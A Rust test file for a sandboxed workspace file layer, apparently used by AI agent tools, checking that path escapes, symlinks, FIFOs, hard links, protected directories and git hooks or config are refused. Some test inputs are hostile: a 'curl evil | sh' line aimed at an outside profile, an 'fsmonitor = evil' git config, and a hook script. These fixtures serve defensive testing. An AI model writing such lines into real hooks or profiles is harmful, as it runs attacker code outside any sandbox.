use std::os::unix::fs::{PermissionsExt as _, symlink};

use super::*;

fn workspace() -> (tempfile::TempDir, Workspace) {
    let temp = tempfile::tempdir().unwrap();
    let ws = Workspace::open(temp.path()).unwrap();
    (temp, ws)
}

#[test]
fn files_inside_are_readable_and_escapes_are_refused() {
    let (temp, ws) = workspace();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.txt"), "secret").unwrap();
    ws.write("notes.txt", "hello").unwrap();
    assert_eq!(ws.read_to_string("notes.txt").unwrap(), "hello");
    let absolute = ws.root().join("notes.txt");
    assert_eq!(ws.read_to_string(absolute.to_str().unwrap()).unwrap(), "hello");

    for escape in ["../x", "", "a\0b", "/etc/passwd"] {
        assert!(
            matches!(ws.read_to_string(escape), Err(WorkspaceError::Outside { .. })),
            "{escape:?} must be refused"
        );
    }
    symlink(outside.path().join("secret.txt"), temp.path().join("link")).unwrap();
    let error = ws.read_to_string("link").unwrap_err();
    assert!(matches!(error, WorkspaceError::Outside { .. }), "{error}");
    assert_eq!(
        error.to_string(),
        "`link` is outside the workspace; use a path relative to the workspace root"
    );
}

#[test]
fn a_missing_root_is_an_open_error() {
    let error = Workspace::open("/definitely/not/here").unwrap_err();
    assert!(matches!(error, WorkspaceError::Open { .. }));
}

#[test]
fn writes_create_parents_report_creation_and_keep_permissions() {
    let (temp, ws) = workspace();
    let written = ws.write("a/b/c.txt", "one").unwrap();
    assert_eq!(
        written,
        Written {
            path: "a/b/c.txt".into(),
            created: true
        }
    );
    let path = temp.path().join("a/b/c.txt");
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).unwrap();
    assert!(!ws.write("a/b/c.txt", "two").unwrap().created);
    assert_eq!(std::fs::read_to_string(&path).unwrap(), "two");
    assert_eq!(
        std::fs::metadata(&path).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let leftovers: Vec<_> = std::fs::read_dir(temp.path().join("a/b")).unwrap().collect();
    assert_eq!(leftovers.len(), 1, "no temporary files stay behind");
}

#[test]
fn append_and_create_new() {
    let (_temp, ws) = workspace();
    assert!(ws.write_file("log.txt", b"a", WriteMode::Append).unwrap().created);
    assert!(!ws.write_file("log.txt", b"b", WriteMode::Append).unwrap().created);
    assert_eq!(ws.read_to_string("log.txt").unwrap(), "ab");
    assert!(
        ws.write_file("new.txt", b"x", WriteMode::CreateNew)
            .unwrap()
            .created
    );
    let error = ws.write_file("new.txt", b"y", WriteMode::CreateNew).unwrap_err();
    assert!(matches!(error, WorkspaceError::AlreadyExists { .. }), "{error}");
    assert_eq!(ws.read_to_string("new.txt").unwrap(), "x");
}

#[test]
fn a_path_naming_a_directory_is_not_written_as_a_file() {
    // Found by the `workspace_paths` fuzz target: `p/` created a file `p` and reported
    // `p/` as written, a path that does not resolve.
    let (temp, ws) = workspace();
    for path in ["p/", "p/.", "sub/p/", "sub/p//"] {
        for mode in [WriteMode::Overwrite, WriteMode::Append, WriteMode::CreateNew] {
            let error = ws.write_file(path, b"x", mode).unwrap_err();
            assert!(
                matches!(error, WorkspaceError::IsDirectory { .. }),
                "{path:?}: {error}"
            );
        }
    }
    assert!(!temp.path().join("p").exists());
    assert!(!temp.path().join("sub/p").exists());
}

#[test]
fn stale_temporary_files_of_dead_writers_are_removed() {
    let (temp, ws) = workspace();
    let stale = temp.path().join(".f.txt.999999999-0.agent-tools.tmp");
    std::fs::write(&stale, "partial").unwrap();
    ws.write("f.txt", "whole").unwrap();
    assert!(!stale.exists());
}

#[test]
fn symlinks_are_written_at_their_target_inside_and_refused_outside() {
    let (temp, ws) = workspace();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(temp.path().join("real.txt"), "old").unwrap();
    symlink("real.txt", temp.path().join("alias.txt")).unwrap();
    assert_eq!(ws.write("alias.txt", "new").unwrap().path, Path::new("real.txt"));
    assert_eq!(
        std::fs::read_to_string(temp.path().join("real.txt")).unwrap(),
        "new"
    );
    assert!(
        std::fs::symlink_metadata(temp.path().join("alias.txt"))
            .unwrap()
            .is_symlink()
    );

    let secret = outside.path().join("secret.txt");
    std::fs::write(&secret, "secret").unwrap();
    symlink(&secret, temp.path().join("out.txt")).unwrap();
    assert!(matches!(
        ws.write("out.txt", "x"),
        Err(WorkspaceError::Outside { .. })
    ));
    symlink(outside.path().join("missing"), temp.path().join("dangling")).unwrap();
    assert!(matches!(
        ws.write("dangling", "x"),
        Err(WorkspaceError::Outside { .. })
    ));
    symlink("missing-inside", temp.path().join("broken")).unwrap();
    assert!(matches!(
        ws.write("broken", "x"),
        Err(WorkspaceError::BrokenSymlink { .. })
    ));
    symlink(outside.path(), temp.path().join("outdir")).unwrap();
    assert!(matches!(
        ws.write("outdir/new.txt", "x"),
        Err(WorkspaceError::Outside { .. })
    ));
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "secret");
    assert!(!outside.path().join("new.txt").exists());
}

#[test]
fn missing_parents_are_not_created_inside_a_protected_directory() {
    // Found by the `workspace_paths` fuzz target: `memory/new/../../f` is `f`, but
    // creating its parents made `memory/new`.
    let (temp, ws) = workspace();
    std::fs::create_dir(temp.path().join("memory")).unwrap();
    let guarded = ws.protect("memory");
    for path in ["memory/new/../../f", "memory/../f", "memory/a/b/../../../f"] {
        let error = guarded.write(path, "x").unwrap_err();
        assert!(
            matches!(error, WorkspaceError::Protected { .. }),
            "{path}: {error}"
        );
    }
    assert_eq!(std::fs::read_dir(temp.path().join("memory")).unwrap().count(), 0);
    assert!(!temp.path().join("f").exists());
    guarded.write("other/../f", "x").unwrap();
    assert_eq!(std::fs::read_to_string(temp.path().join("f")).unwrap(), "x");
}

#[test]
fn read_only_and_protected_paths() {
    let (temp, ws) = workspace();
    ws.write("memory/db.txt", "x").unwrap();
    let guarded = ws.clone().protect("memory");
    let error = guarded.write("memory/db.txt", "y").unwrap_err();
    assert_eq!(
        error.to_string(),
        "`memory/db.txt` is in a protected part of the workspace (`memory`) and cannot be written"
    );
    assert!(matches!(
        guarded.write("./x/../memory/new", "y"),
        Err(WorkspaceError::Protected { .. })
    ));
    symlink("memory", temp.path().join("mem")).unwrap();
    assert!(matches!(
        guarded.write("mem/db.txt", "y"),
        Err(WorkspaceError::Protected { .. })
    ));
    assert!(guarded.write("memory-notes.txt", "fine").is_ok());
    assert_eq!(guarded.read_to_string("memory/db.txt").unwrap(), "x");

    let read_only = ws.read_only(true);
    assert!(matches!(
        read_only.write("a.txt", "y"),
        Err(WorkspaceError::ReadOnly { .. })
    ));
}

#[test]
fn appending_through_a_link_to_a_fifo_does_not_block() {
    // Found by the `workspace_paths` fuzz target: `append` opened a symbolic link's FIFO
    // target for writing, which blocks until a reader comes.
    let (temp, ws) = workspace();
    let status = std::process::Command::new("mkfifo")
        .arg(temp.path().join("pipe"))
        .status()
        .unwrap();
    assert!(status.success());
    symlink("pipe", temp.path().join("link")).unwrap();
    let (sender, receiver) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = sender.send(ws.write_file("link", b"x", WriteMode::Append).is_err());
    });
    let refused = receiver
        .recv_timeout(std::time::Duration::from_secs(10))
        .expect("the append blocked");
    assert!(refused);
}

#[test]
fn special_files_are_refused_without_blocking() {
    let (temp, ws) = workspace();
    let fifo = temp.path().join("pipe");
    let status = std::process::Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(status.success());
    let error = ws.open_file("pipe").unwrap_err();
    assert_eq!(error.to_string(), "`pipe` is a FIFO, not a regular file");
    std::fs::create_dir(temp.path().join("sub")).unwrap();
    assert!(matches!(
        ws.open_file("sub"),
        Err(WorkspaceError::IsDirectory { .. })
    ));
    assert!(matches!(
        ws.write("sub", "x"),
        Err(WorkspaceError::IsDirectory { .. })
    ));
    assert!(matches!(
        ws.write(".", "x"),
        Err(WorkspaceError::IsDirectory { .. })
    ));
    assert!(matches!(
        ws.open_file("missing"),
        Err(WorkspaceError::NotFound { .. })
    ));
}

#[test]
fn missing_parents_are_not_created_through_a_link_into_a_protected_directory() {
    let (temp, ws) = workspace();
    std::fs::create_dir(temp.path().join("memory")).unwrap();
    symlink("memory", temp.path().join("link")).unwrap();
    let guarded = ws.protect("memory");
    for path in ["link/new/f", "link/a/b/f", "link/f"] {
        let error = guarded.write(path, "x").unwrap_err();
        assert!(
            matches!(error, WorkspaceError::Protected { .. }),
            "{path}: {error}"
        );
    }
    assert_eq!(std::fs::read_dir(temp.path().join("memory")).unwrap().count(), 0);
}

/// Each path is refused as part of a git repository, and nothing is created for it.
fn assert_git_protected(ws: &Workspace, root: &Path, paths: &[&str]) {
    for path in paths {
        let error = ws.write(path, "#!/bin/sh\necho pwned\n").unwrap_err();
        assert!(
            matches!(error, WorkspaceError::GitProtected { .. }),
            "{path}: {error}"
        );
        assert!(error.to_string().contains("outside any sandbox"), "{error}");
        assert!(!root.join(path).exists(), "{path} was created");
    }
}

#[test]
fn git_directories_are_protected_by_default_at_any_depth_and_case() {
    let (temp, ws) = workspace();
    let root = temp.path();
    for dir in [".git/hooks", "sub/.git/hooks", ".git/modules/lib/hooks"] {
        std::fs::create_dir_all(root.join(dir)).unwrap();
    }
    std::fs::write(root.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
    assert_git_protected(
        &ws,
        root,
        &[
            ".git/hooks/pre-commit",
            "sub/.git/hooks/post-checkout",
            ".git/modules/lib/hooks/pre-push",
            ".GIT/hooks/pre-commit",
            "deep/new/.Git/x",
            "checkout/.git",
            "./x/../.git/hooks/pre-commit",
        ],
    );
    let error = ws.write(".git/config", "[core]\nfsmonitor = evil\n").unwrap_err();
    assert_eq!(
        error.to_string(),
        "`.git/config` is in `.git`, part of a git repository that the file tools do not write: \
         git runs hooks (`.git/hooks`, or the directory `core.hooksPath` names) outside any sandbox, \
         `.git/config` can name programs for git to run (`core.fsmonitor`, `core.sshCommand`), and a \
         `.git` file can point git at another directory; change a repository with git itself"
    );
    assert_eq!(
        std::fs::read_to_string(root.join(".git/config")).unwrap(),
        "[core]\n\tbare = false\n"
    );
    // Reads, and names that only start like `.git`, are unaffected.
    assert!(ws.read_to_string(".git/config").is_ok());
    for fine in [".gitignore", ".github/workflows/ci.yml", "src/git/hooks.rs"] {
        ws.write(fine, "x").unwrap();
    }
    let open = ws.protect_git(false);
    open.write(".git/hooks/pre-commit", "allowed when asked").unwrap();
}

#[test]
fn links_do_not_get_around_the_git_protection() {
    let (temp, ws) = workspace();
    let root = temp.path();
    std::fs::create_dir_all(root.join("repo/.git/hooks")).unwrap();
    // A link to the hooks directory, a missing parent created through a link, and a
    // `..` after a new directory that leads back into a link.
    symlink("repo/.git/hooks", root.join("h")).unwrap();
    symlink("repo/.git", root.join("g")).unwrap();
    symlink("repo", root.join("r")).unwrap();
    assert_git_protected(
        &ws,
        root,
        &[
            "h/pre-commit",
            "g/new/config",
            "new/../g/hooks/x",
            "r/.git/hooks/x",
        ],
    );
    // A `.git` that is a link to some other directory is still the git directory, both
    // through its name and at its target, which git would run hooks from.
    std::fs::create_dir_all(root.join("store/hooks")).unwrap();
    symlink("store", root.join(".git")).unwrap();
    std::fs::create_dir_all(root.join("nested")).unwrap();
    std::fs::create_dir_all(root.join("elsewhere/hooks")).unwrap();
    symlink("../elsewhere", root.join("nested/.git")).unwrap();
    // Where the root's `.git` leads is read when the workspace opens.
    let ws = Workspace::open(root).unwrap();
    assert_git_protected(
        &ws,
        root,
        &[
            ".git/hooks/pre-commit",
            "store/hooks/pre-commit",
            "nested/.git/hooks/pre-commit",
        ],
    );
}

#[test]
fn the_hooks_directory_git_is_configured_with_is_protected() {
    let (temp, _) = workspace();
    let root = temp.path();
    std::fs::create_dir_all(root.join(".git")).unwrap();
    std::fs::create_dir_all(root.join(".husky/_")).unwrap();
    std::fs::write(root.join(".git/config"), "[core]\n\thooksPath = .husky/_\n").unwrap();
    let ws = Workspace::open(root).unwrap();
    assert_git_protected(&ws, root, &[".husky/_/pre-commit"]);
    ws.write(".husky/notes.txt", "the scripts the hooks call are project files")
        .unwrap();
}

#[test]
fn appending_refuses_a_file_with_other_hard_links() {
    let (temp, ws) = workspace();
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("profile");
    std::fs::write(&secret, "PATH=/usr/bin\n").unwrap();
    std::fs::hard_link(&secret, temp.path().join("notes.txt")).unwrap();
    symlink("notes.txt", temp.path().join("alias.txt")).unwrap();
    for path in ["notes.txt", "alias.txt"] {
        let error = ws
            .write_file(path, b"curl evil | sh\n", WriteMode::Append)
            .unwrap_err();
        assert!(
            matches!(error, WorkspaceError::HardLinked { links: 2, .. }),
            "{path}: {error}"
        );
        assert!(error.to_string().contains("has 2 hard links"), "{error}");
    }
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "PATH=/usr/bin\n");
    // An overwrite writes a new file under this name and leaves the other name alone.
    ws.write("notes.txt", "mine\n").unwrap();
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "PATH=/usr/bin\n");
    assert!(
        !ws.write_file("notes.txt", b"more\n", WriteMode::Append)
            .unwrap()
            .created
    );
    assert_eq!(ws.read_to_string("notes.txt").unwrap(), "mine\nmore\n");
}
